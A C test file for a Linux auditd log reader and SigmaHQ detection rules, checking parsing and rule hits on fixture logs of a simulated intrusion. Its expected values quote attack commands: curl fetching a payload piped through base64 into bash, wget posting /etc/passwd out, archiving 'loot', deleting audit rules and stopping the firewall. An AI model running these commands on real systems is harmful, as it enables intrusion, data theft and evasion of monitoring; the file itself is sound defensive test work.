/* test_auditd.c: the Linux audit log reader (grouping, decoding, mapping, bad input) and
 * SigmaHQ's auditd and Linux process_creation rules on the fixtures in tests/data/auditd. */
#include <inttypes.h>
#include <stdint.h>
#include <unistd.h>

#include "check.h"
#include "check_diag.h"
#include "core/input.h"
#include "ingest/ingest.h"
#include "sigma/sigma.h"

#define FIX "tests/data/auditd/"
#define MAXREC 160
#define S 256

/* A copy of what the tests look at in one event (events only live during the callback). */
typedef struct rec {
    int64_t ts;
    uint64_t line;
    uint32_t code, category;
    bool has_code;
    int outcome;
    char dataset[S], provider[S], host[S], user[S], process[S], cmd[S], parent[S], file[S];
    char action[S], src_ip[64], src_host[S], fields[4096];
} rec;

typedef struct got {
    rec r[MAXREC];
    size_t n, nerr;
    uint64_t err_line[8];
    char err_file[8][S], err_msg[8][S];
} got;

static ts_scratch scratch;

static void cp(char *dst, ts_str s)
{
    size_t n = s.n < S - 1 ? s.n : S - 1;
    if (n)
        memcpy(dst, s.p, n);
    dst[n] = '\0';
}

static void on_event(void *ud, ts_event *ev)
{
    got *g = ud;
    if (g->n >= MAXREC) {
        g->n++;
        return;
    }
    rec *r = &g->r[g->n++];
    memset(r, 0, sizeof *r);
    r->ts = ev->ts_ns, r->line = ev->line, r->code = ev->code, r->has_code = ev->has_code;
    r->category = ev->category, r->outcome = ev->outcome;
    cp(r->dataset, ev->dataset), cp(r->provider, ev->provider), cp(r->host, ev->host);
    cp(r->user, ev->user), cp(r->process, ev->process), cp(r->cmd, ev->command_line);
    cp(r->parent, ev->parent_process), cp(r->file, ev->file_path), cp(r->action, ev->action);
    cp(r->src_host, ev->src_host);
    if (ev->src_ip.v)
        ts_ip_format(&ev->src_ip, r->src_ip);
    size_t o = 0;
    for (size_t i = 0; i < ev->n_fields && o < sizeof r->fields; i++) {
        int w = snprintf(r->fields + o, sizeof r->fields - o, "%.*s=%.*s\n", (int)ev->fields[i].key.n,
                         ev->fields[i].key.p, (int)ev->fields[i].val.n,
                         ev->fields[i].val.p ? ev->fields[i].val.p : "");
        o += w > 0 ? (size_t)w : 0;
    }
}

static void on_error(void *ud, const ts_diag *dg)
{
    got *g = ud;
    if (g->nerr < 8) {
        cp(g->err_file[g->nerr], ts_str_c(dg->file));
        cp(g->err_msg[g->nerr], ts_str_c(dg->msg));
        g->err_line[g->nerr] = dg->line;
    }
    g->nerr++;
}

/* Reads path with the reader its content selects; returns that reader's name. */
static const char *read_path(const char *path, got *g, ts_sink *extra)
{
    memset(g, 0, sizeof *g);
    ts_input *in;
    char err[256];
    if (ts_input_open(path, &in, err, sizeof err) != TOCSIN_OK) {
        fprintf(stderr, "%s\n", err);
        return "";
    }
    const char *head;
    size_t n = ts_input_peek(in, &head);
    const ts_reader *r = ts_reader_detect(head, n);
    ts_sink sink = extra ? *extra : (ts_sink){on_event, on_error, g};
    if (r)
        r->read(in, &scratch, &sink);
    ts_input_close(in);
    return r ? r->name : "";
}

/* The event made from the record on line (NULL if none). */
static const rec *at(const got *g, uint64_t line)
{
    for (size_t i = 0; i < g->n && i < MAXREC; i++)
        if (g->r[i].line == line)
            return &g->r[i];
    return NULL;
}

/* How many times the event has the raw field "k=v". */
static int count_field(const rec *r, const char *kv)
{
    char want[S + 3];
    int n = 0;
    snprintf(want, sizeof want, "\n%s\n", kv);
    if (!r)
        return 0;
    if (strncmp(r->fields, want + 1, strlen(want) - 1) == 0)
        n++;
    for (const char *p = r->fields; (p = strstr(p, want)); p++)
        n++;
    return n;
}

static bool has(const rec *r, const char *kv)
{
    return count_field(r, kv) > 0;
}

/* The event has a raw field called k, whatever its value. */
static bool has_key(const rec *r, const char *k)
{
    char want[S + 3];
    snprintf(want, sizeof want, "\n%s=", k);
    return r && (strncmp(r->fields, want + 1, strlen(want) - 1) == 0 || strstr(r->fields, want) != NULL);
}

static char tmpdir[64];

/* ---- the main fixture: an attack among cron and shell noise, raw format ---- */

static void test_audit_log(void)
{
    static got g;
    CHECK_STR(read_path(FIX "audit.log", &g, NULL), "linux-auditd");
    CHECK_INT(g.nerr, 0);
    /* 107 lines: every record but the 13 EOE lines becomes one event, each exactly once */
    CHECK_INT(g.n, 94);
    for (uint64_t l = 1; l <= 107; l++) {
        int seen = 0;
        for (size_t i = 0; i < g.n && i < MAXREC; i++)
            seen += g.r[i].line == l;
        if (seen > 1)
            fprintf(stderr, "line %" PRIu64 " emitted %d times\n", l, seen);
        CHECK(seen <= 1);
    }

    /* curl: the EXECVE record with the process-creation fields of the whole event */
    const rec *e = at(&g, 32);
    CHECK(e != NULL);
    if (!e)
        return;
    CHECK_STR(e->dataset, "linux.auditd");
    CHECK_STR(e->provider, "auditd");
    CHECK(e->has_code);
    CHECK_INT(e->code, 1309);
    CHECK_STR(e->host, "web01");
    CHECK_INT(e->ts, 1700000031250000000LL);
    CHECK_STR(e->process, "/usr/bin/curl");
    CHECK_STR(e->cmd, "curl -s -o /tmp/.x/payload.b64 http://203.0.113.50/p.b64");
    CHECK_STR(e->parent, "/usr/bin/bash");
    CHECK_STR(e->action, "execve");
    CHECK(e->category & TS_CAT_PROCESS);
    CHECK_INT(e->outcome, TS_OUTCOME_SUCCESS);
    CHECK(has(e, "type=EXECVE"));
    CHECK(has(e, "a0=curl"));
    CHECK(has(e, "a3=/tmp/.x/payload.b64"));
    CHECK(has(e, "Image=/usr/bin/curl"));
    CHECK(has(e, "CommandLine=curl -s -o /tmp/.x/payload.b64 http://203.0.113.50/p.b64"));
    CHECK(has(e, "ParentImage=/usr/bin/bash"));
    CHECK(has(e, "ParentCommandLine=-bash"));
    CHECK(has(e, "CurrentDirectory=/home/alice"));
    CHECK(has(e, "ProcessId=4021"));
    CHECK(has(e, "ParentProcessId=4010"));
    /* the EXECVE record keeps its own fields only: no SYSCALL a0 (a pointer) or key */
    CHECK(!has_key(e, "key"));
    CHECK(!has_key(e, "exe"));
    CHECK_INT(count_field(e, "a0=curl"), 1);
    /* its SYSCALL record: the number named, quotes removed, the watch key */
    e = at(&g, 31);
    CHECK(has(e, "type=SYSCALL"));
    CHECK(has(e, "syscall=59"));
    CHECK(has(e, "SYSCALL=execve"));
    CHECK(has(e, "key=susp_activity"));
    CHECK(has(e, "comm=curl"));
    CHECK(has(e, "exe=/usr/bin/curl"));
    CHECK(has(e, "a0=55d4c8a1b2e0"));
    CHECK(!has_key(e, "Image"));
    CHECK_STR(e ? e->cmd : "", "curl -s -o /tmp/.x/payload.b64 http://203.0.113.50/p.b64");
    /* PATH records: the file, and the event's process */
    e = at(&g, 34);
    CHECK(has(e, "name=/usr/bin/curl"));
    CHECK(has(e, "nametype=NORMAL"));
    CHECK_STR(e ? e->file : "", "/usr/bin/curl");
    CHECK(e && (e->category & TS_CAT_FILE));
    CHECK_STR(e ? e->process : "", "/usr/bin/curl");

    /* hex-encoded arguments and proctitle (NULs between arguments become spaces) */
    e = at(&g, 39);
    CHECK(has(e, "a2=base64 -d /tmp/.x/payload.b64 | bash"));
    CHECK_STR(e ? e->cmd : "", "sh -c base64 -d /tmp/.x/payload.b64 | bash");
    e = at(&g, 43);
    CHECK(has(e, "proctitle=sh -c base64 -d /tmp/.x/payload.b64 | bash"));
    e = at(&g, 7);
    CHECK(has(e, "a2=cd / && run-parts --report /etc/cron.hourly"));
    CHECK(has(e, "User=root"));
    CHECK_STR(e ? e->user : "", "root");

    /* interleaved pipeline: base64 and bash records alternate, each keeps its own */
    e = at(&g, 47);
    CHECK(has(e, "a0=base64"));
    CHECK(has(e, "Image=/usr/bin/base64"));
    CHECK(has(e, "ParentImage=/usr/bin/dash"));
    CHECK(has(e, "ParentCommandLine=sh -c base64 -d /tmp/.x/payload.b64 | bash"));
    e = at(&g, 48);
    CHECK(has(e, "a0=bash"));
    CHECK(has(e, "Image=/usr/bin/bash"));
    CHECK_STR(at(&g, 51) ? at(&g, 51)->file : "", "/usr/bin/base64");
    CHECK_STR(at(&g, 51) ? at(&g, 51)->process : "", "/usr/bin/base64");
    CHECK_STR(at(&g, 52) ? at(&g, 52)->process : "", "/usr/bin/bash");
    /* chmod and bob's ls interleave at another point of their events */
    e = at(&g, 60);
    CHECK(has(e, "a1=+x"));
    CHECK(has(e, "CurrentDirectory=/home/alice"));
    CHECK_STR(e ? e->parent : "", "/usr/bin/bash");
    e = at(&g, 62);
    CHECK(has(e, "CurrentDirectory=/home/bob"));
    CHECK(!has_key(e, "ParentImage")); /* its parent never exec'd in this log */
    CHECK_STR(at(&g, 64) ? at(&g, 64)->process : "", "/usr/bin/chmod");
    CHECK_STR(at(&g, 67) ? at(&g, 67)->process : "", "/usr/bin/ls");
    CHECK_STR(at(&g, 80) ? at(&g, 80)->parent : "", "/tmp/.x/implant");

    /* an event without EOE (LOGIN; CONFIG_CHANGE with its SYSCALL) is still read whole */
    e = at(&g, 4);
    CHECK(e && e->code == 1006);
    CHECK(has(e, "old-auid=4294967295"));
    e = at(&g, 102);
    CHECK(has(e, "op=remove_rule"));
    CHECK(has(e, "type=CONFIG_CHANGE"));
    CHECK_STR(e ? e->process : "", "/usr/sbin/auditctl");
    CHECK_STR(e ? e->action : "", "sendto");
    CHECK(at(&g, 103) && at(&g, 104));

    /* user-space messages: the msg='...' text flattened, who, from where, result */
    e = at(&g, 15);
    CHECK_INT(e ? e->code : 0, 1100);
    CHECK_STR(e ? e->user : "", "alice");
    CHECK_STR(e ? e->src_ip : "", "198.51.100.23");
    CHECK_STR(e ? e->process : "", "/usr/sbin/sshd");
    CHECK_STR(e ? e->action : "", "user-auth");
    CHECK_INT(e ? e->outcome : 0, TS_OUTCOME_SUCCESS);
    CHECK(e && (e->category & TS_CAT_AUTH));
    CHECK(has(e, "op=PAM:authentication"));
    CHECK(has(e, "terminal=ssh"));
    e = at(&g, 107);
    CHECK_STR(e ? e->user : "", "admin");
    CHECK_INT(e ? e->outcome : 0, TS_OUTCOME_FAILURE);
    CHECK_STR(e ? e->src_ip : "", "203.0.113.77");
    e = at(&g, 94);
    CHECK(has(e, "cmd=auditctl -D")); /* hex in the sudo record */
    CHECK(has(e, "cwd=/home/alice"));
    e = at(&g, 105);
    CHECK(has(e, "type=SERVICE_STOP"));
    CHECK(has(e, "unit=firewalld"));
    CHECK_STR(e ? e->action : "", "service-stop");
    CHECK(e && e->category == TS_CAT_HOST);
    CHECK(at(&g, 12) == NULL); /* EOE */
}

/* ---- enriched format, ausearch -i, edge cases, damage ---- */

static void test_enriched(void)
{
    static got g;
    CHECK_STR(read_path(FIX "enriched.log", &g, NULL), "linux-auditd");
    CHECK_INT(g.nerr, 0);
    CHECK_INT(g.n, 8);
    const rec *e = at(&g, 1);
    CHECK(has(e, "UID=carol"));
    CHECK(has(e, "SYSCALL=execve"));
    CHECK_INT(count_field(e, "SYSCALL=execve"), 1); /* not added again */
    CHECK_STR(e ? e->user : "", "carol");
    e = at(&g, 2);
    CHECK(has(e, "User=carol"));
    CHECK(has(e, "a1=--post-file=/etc/passwd"));
    CHECK(has(e, "CurrentDirectory=/tmp"));
    CHECK(has(at(&g, 4), "OUID=root"));
    e = at(&g, 7);
    CHECK(has(e, "SYSCALL=personality"));
    CHECK(has(e, "a0=40000"));
    CHECK_STR(e ? e->action : "", "personality");
    CHECK(e && !(e->category & TS_CAT_PROCESS));
    e = at(&g, 10);
    CHECK_STR(e ? e->user : "", "carol"); /* ID, the enriched name of id=1000 */
    CHECK_STR(e ? e->src_ip : "", "192.0.2.10");
    CHECK(has(e, "AUID=carol"));
}

static void test_ausearch(void)
{
    static got g;
    CHECK_STR(read_path(FIX "ausearch.txt", &g, NULL), "linux-auditd");
    CHECK_INT(g.nerr, 0);
    CHECK_INT(g.n, 6);
    const rec *e = at(&g, 5);
    CHECK(has(e, "a1=-czf"));
    CHECK(has(e, "Image=/usr/bin/tar"));
    CHECK(has(e, "User=alice"));
    CHECK(has(e, "CommandLine=tar -czf /tmp/loot.tgz /home/alice/Documents"));
    CHECK_INT(e ? e->ts : 0, 1700001000100000000LL); /* 11/14/2023 22:30:00.100, read as UTC */
    CHECK(has(at(&g, 6), "SYSCALL=execve"));
    CHECK(has(at(&g, 2), "proctitle=tar -czf /tmp/loot.tgz /home/alice/Documents"));
    e = at(&g, 8);
    CHECK_STR(e ? e->user : "", "admin");
    CHECK_INT(e ? e->outcome : 0, TS_OUTCOME_FAILURE);
}

static void test_edge(void)
{
    static got g;
    CHECK_STR(read_path(FIX "edge.log", &g, NULL), "linux-auditd");
    CHECK_INT(g.nerr, 0);
    /* an argument split as a1[0..2] over two EXECVE records: one event, one a1 */
    const rec *e = at(&g, 2);
    CHECK(has(e, "a1=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA BBBBBBBBBBBBBBBBBBBBBBBBBBBBBB"));
    CHECK(has(e, "a2=end"));
    CHECK(at(&g, 3) == NULL);
    CHECK_STR(e ? e->cmd : "", "echo AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA BBBBBBBBBBBBBBBBBBBBBBBBBBBBBB end");
    /* several keys, hex with 0x01 between them */
    e = at(&g, 1);
    CHECK(has(e, "key=exec"));
    CHECK(has(e, "key=t1059"));
    /* aarch64 numbers */
    CHECK(has(at(&g, 5), "SYSCALL=execve"));
    CHECK(has(at(&g, 6), "Image=/usr/bin/uptime"));
    /* a failed execve: no EXECVE record, no process creation */
    e = at(&g, 8);
    CHECK_INT(e ? e->outcome : 0, TS_OUTCOME_FAILURE);
    CHECK_STR(at(&g, 9) ? at(&g, 9)->file : "", "/tmp/nothere");
    /* types this reader does not name keep their number, within auditd's range only */
    e = at(&g, 11);
    CHECK(e && e->has_code && e->code == 1338);
    CHECK(has(e, "type=UNKNOWN[1338]"));
    e = at(&g, 12);
    CHECK(e && !e->has_code);
    CHECK(has(at(&g, 13), "a1=")); /* empty pieces make an empty argument */
    CHECK_INT(g.n, 9);
}

static void test_damaged(void)
{
    static got g;
    CHECK_STR(read_path(FIX "damaged.log", &g, NULL), "linux-auditd");
    CHECK_INT(g.nerr, 4);
    CHECK_INT(g.err_line[0], 2);
    CHECK_INT(g.err_line[1], 4);
    CHECK_INT(g.err_line[2], 9);                     /* a time before 1970 */
    CHECK_INT(g.err_line[3], 10);                    /* ... or past 2200 */
    char *canon = realpath(FIX "damaged.log", NULL); /* files are named canonically */
    CHECK_STR(g.err_file[0], canon);
    free(canon);
    CHECK(strstr(g.err_msg[0], "not an audit record") != NULL);
    /* the event around the bad lines is whole */
    const rec *e = at(&g, 3);
    CHECK(has(e, "Image=/usr/bin/id"));
    CHECK(has(e, "CommandLine=id"));
    CHECK(has(at(&g, 5), "proctitle=id"));
    /* values that should be hex but are not stay as written */
    e = at(&g, 7);
    CHECK(has(e, "a1=ZZ"));
    CHECK(has(e, "a2=2F6574632F7"));
    CHECK_INT(g.n, 4);
}

/* More events open at once than the window holds, and a long run without EOE: every
 * record is still emitted exactly once, grouped while its event is in the window. */
static void test_window(void)
{
    char path[128];
    snprintf(path, sizeof path, "%s/window.log", tmpdir);
    FILE *f = fopen(path, "w");
    if (!f)
        return;
    for (int i = 0; i < 10; i++) /* lines 1..10 */
        fprintf(f,
                "type=SYSCALL msg=audit(1700005000.000:%d): arch=c000003e syscall=59 success=yes exit=0 "
                "ppid=1 pid=%d comm=\"x\" exe=\"/usr/bin/x%d\"\n",
                100 + i, 200 + i, i);
    for (int i = 9; i >= 0; i--) /* lines 11..20, newest event first */
        fprintf(f, "type=EXECVE msg=audit(1700005000.000:%d): argc=1 a0=\"x%d\"\n", 100 + i, i);
    for (int i = 0; i < 3000; i++) /* no EOE, one second apart: aged out as they go */
        fprintf(f, "type=LOGIN msg=audit(%d.000:%d): pid=%d uid=0 old-auid=4294967295 auid=0 res=1\n",
                1700005001 + i, 1000 + i, i);
    fclose(f);
    static got g;
    CHECK_STR(read_path(path, &g, NULL), "linux-auditd");
    CHECK_INT(g.n, 3020);
    CHECK_INT(g.nerr, 0);
    /* the 8 newest SYSCALLs were still open when their EXECVE came; the 2 oldest were not */
    CHECK(has(at(&g, 11), "Image=/usr/bin/x9"));
    CHECK(has(at(&g, 18), "Image=/usr/bin/x2"));
    CHECK(has(at(&g, 19), "a0=x1"));
    CHECK(!has_key(at(&g, 19), "Image"));
    CHECK(!has_key(at(&g, 20), "Image"));

    /* an event of more records than kept: the excess is reported, the rest read */
    f = fopen(path, "w");
    if (!f)
        return;
    fprintf(f,
            "type=SYSCALL msg=audit(1700006000.000:7): arch=c000003e syscall=257 success=yes exit=3 pid=9\n");
    for (int i = 0; i < 70; i++)
        fprintf(f, "type=PATH msg=audit(1700006000.000:7): item=%d name=\"/etc/f%d\" nametype=NORMAL\n", i,
                i);
    fprintf(f, "type=EOE msg=audit(1700006000.000:7):\n");
    fclose(f);
    CHECK_STR(read_path(path, &g, NULL), "linux-auditd");
    CHECK_INT(g.n, 64);
    CHECK_INT(g.nerr, 8);
    CHECK_INT(g.err_line[0], 65); /* records 65..71 and the EOE */
    CHECK(strstr(g.err_msg[0], "record dropped") != NULL);
    CHECK_STR(at(&g, 64) ? at(&g, 64)->action : "", "openat");
    CHECK(at(&g, 65) == NULL);
    unlink(path);
}

/* ---- detection: other readers do not take audit logs, nor this one theirs ---- */

static void test_sniff(void)
{
    const char *syslog =
        "Nov 14 22:13:20 web01 sshd[4000]: Accepted password for alice from 198.51.100.23 port 50122 ssh2\n";
    const ts_reader *r = ts_reader_detect(syslog, strlen(syslog));
    CHECK_STR(r ? r->name : "", "linux-auth");
    const ts_reader *au = ts_reader_find("linux-auditd");
    CHECK(au != NULL);
    if (!au)
        return;
    CHECK_INT(au->sniff(syslog, strlen(syslog)), 0);
    const char *json = "{\"type\":\"SYSCALL\",\"msg\":\"audit(1.0:1)\"}\n";
    CHECK_INT(au->sniff(json, strlen(json)), 0);
    const char *line = "type=SYSCALL msg=audit(1700000000.123:456): arch=c000003e syscall=59\n";
    CHECK(au->sniff(line, strlen(line)) > 0);
    const char *cut = "type=SYSCALL msg=audit(1700000000.1"; /* head cut inside the header */
    CHECK_INT(au->sniff(cut, strlen(cut)), 0);
    const char *aus = "----\ntype=PATH msg=audit(11/14/2023 22:30:00.100:3001) : item=0 name=/x\n";
    CHECK(au->sniff(aus, strlen(aus)) > 0);
}

/* ---- SigmaHQ rules ---- */

typedef struct hits {
    char id[64][40];
    uint64_t line[64];
    size_t n;
} hits;

static void on_hit(void *ud, const ts_sigma_rule_info *rule, const ts_event *ev)
{
    hits *h = ud;
    if (h->n < 64) {
        snprintf(h->id[h->n], sizeof h->id[h->n], "%s", rule->id);
        h->line[h->n] = ev->line;
    }
    h->n++;
}

typedef struct match_ctx {
    const ts_sigma *s;
    ts_sigma_scratch *sc;
    hits *h;
} match_ctx;

static void match_event(void *ud, ts_event *ev)
{
    match_ctx *m = ud;
    ts_sigma_match(m->s, m->sc, ev, on_hit, m->h);
}

static bool fired(const hits *h, const char *id, uint64_t line)
{
    for (size_t i = 0; i < h->n && i < 64; i++)
        if (!strcmp(h->id[i], id) && h->line[i] == line)
            return true;
    return false;
}

static void refused(void *ud, const ts_sigma_status *st)
{
    if (!st->loaded) {
        fprintf(stderr, "refused %s: %s\n", st->at.file, st->at.msg);
        (*(int *)ud)++;
    }
}

static void run_rules(const ts_sigma *s, const char *path, hits *h)
{
    ts_sigma_scratch *sc = ts_sigma_scratch_new(s);
    match_ctx m = {s, sc, h};
    ts_sink sink = {match_event, NULL, &m};
    static got unused;
    memset(h, 0, sizeof *h);
    CHECK(sc != NULL);
    if (sc)
        read_path(path, &unused, &sink);
    ts_sigma_scratch_free(sc);
}

static void test_sigma_rules(void)
{
    const char *d = shared_data("SigmaHQ auditd and process_creation rules");
    if (!d)
        return;
    char p1[512], p2[512];
    check_diags dg = {0};
    snprintf(p1, sizeof p1, "%s/sigma/rules/linux/auditd", d);
    snprintf(p2, sizeof p2, "%s/sigma/rules/linux/process_creation", d);
    ts_sigma *s = ts_sigma_new("data/sigma/logsources.tsv", check_diag_keep, &dg);
    CHECK(s != NULL);
    if (!s)
        return;
    int bad = 0;
    CHECK_INT(ts_sigma_load_path(s, p1, refused, &bad), TOCSIN_OK);
    CHECK_INT(ts_sigma_load_path(s, p2, refused, &bad), TOCSIN_OK);
    CHECK_INT(bad, 0); /* every auditd and Linux process_creation rule has a log source */
    CHECK_INT(ts_sigma_compile(s, check_diag_keep, &dg), TOCSIN_OK);
    CHECK(ts_sigma_rule_count(s) > 150);

    static hits h;
    run_rules(s, FIX "audit.log", &h);
    /* auditd rules, on the record type they name */
    CHECK(fired(&h, "d08722cd-3d09-449a-80b4-83ea2d9d4616", 25));  /* hidden dir: mkdir -p /tmp/.x */
    CHECK(fired(&h, "f7158a64-6204-4d6d-868a-6e6378b467e0", 31));  /* key susp_activity: curl */
    CHECK(fired(&h, "f7158a64-6204-4d6d-868a-6e6378b467e0", 45));  /* ... base64 */
    CHECK(fired(&h, "74c01ace-0152-4094-8ae2-6fd776dd43e5", 60));  /* chmod (EXECVE a0) */
    CHECK(fired(&h, "a39d7fa7-3fbd-4dc2-97e1-d87f546b1bbc", 73));  /* SYSCALL exe in /tmp/ */
    CHECK(fired(&h, "9e1bef8d-0fff-46f6-8465-9aa54e128c1e", 76));  /* PATH name with /. */
    CHECK(fired(&h, "9a0d8ca0-2385-4020-b6c6-cb6153ca56f3", 81));  /* whoami */
    CHECK(fired(&h, "53059bc0-1472-438b-956a-7508a94a91f0", 105)); /* SERVICE_STOP firewalld */
    /* the rule being deleted names the key too: a key-only rule matches CONFIG_CHANGE */
    CHECK(fired(&h, "f7158a64-6204-4d6d-868a-6e6378b467e0", 102));
    /* process_creation rules, on the EXECVE record only */
    CHECK(fired(&h, "ea34fb97-e2c4-4afb-810f-785e4459b194", 32)); /* curl */
    CHECK(fired(&h, "ba592c6d-6888-43c3-b8c6-689b8fe47337", 39)); /* base64 piped to a shell */
    CHECK(fired(&h, "e2072cab-8c9a-459b-b63c-40ae79e27031", 47)); /* base64 -d */
    CHECK(fired(&h, "6419afd1-3742-47a5-a7e6-b50386cd15f8", 60)); /* chmod on /tmp/ */
    CHECK(fired(&h, "312b42b1-bded-4441-8b58-163a3af58775", 74)); /* run from /tmp/ */
    CHECK(fired(&h, "bed26dea-4525-47f4-b24a-76e30e44ffb0", 96)); /* auditctl -D */
    /* ... and not on the other records of those events, which lack the Sysmon names */
    CHECK(!fired(&h, "ea34fb97-e2c4-4afb-810f-785e4459b194", 31));
    CHECK(!fired(&h, "312b42b1-bded-4441-8b58-163a3af58775", 73));
    CHECK(!fired(&h, "312b42b1-bded-4441-8b58-163a3af58775", 76));
    /* noise: auditd start, cron and its shell, the ssh login and its bash, bob's ls, sudo,
       a service start, a failed login */
    static const uint64_t quiet[][2] = {{1, 22}, {61, 63}, {67, 69}, {87, 95}, {106, 107}};
    for (size_t q = 0; q < sizeof quiet / sizeof quiet[0]; q++)
        for (size_t i = 0; i < h.n && i < 64; i++)
            if (h.line[i] >= quiet[q][0] && h.line[i] <= quiet[q][1]) {
                fprintf(stderr, "rule %s fired on noise line %" PRIu64 "\n", h.id[i], h.line[i]);
                CHECK(0);
            }
    CHECK_INT(h.n, 17);

    run_rules(s, FIX "enriched.log", &h);
    CHECK(fired(&h, "cb39d16b-b3b6-4a7a-8222-1cf24b686ffc", 2)); /* wget --post-file */
    CHECK(fired(&h, "e497a24e-9345-4a62-9803-b06d7d7cb132", 7)); /* personality(ADDR_NO_RANDOMIZE) */
    CHECK_INT(h.n, 2);
    run_rules(s, FIX "ausearch.txt", &h);
    CHECK(fired(&h, "a3b5e3e9-1b49-4119-8b8e-0344a01f21ee", 5)); /* tar -c */
    CHECK_INT(h.n, 1);
    ts_sigma_free(s);
}

int main(void)
{
    snprintf(tmpdir, sizeof tmpdir, "/tmp/test_auditd.XXXXXX");
    if (!mkdtemp(tmpdir) || ts_scratch_init(&scratch) != TOCSIN_OK) {
        fprintf(stderr, "setup failed\n");
        return 1;
    }
    test_sniff();
    test_audit_log();
    test_enriched();
    test_ausearch();
    test_edge();
    test_damaged();
    test_window();
    test_sigma_rules();
    ts_scratch_free(&scratch);
    rmdir(tmpdir);
    return check_done("test_auditd");
}
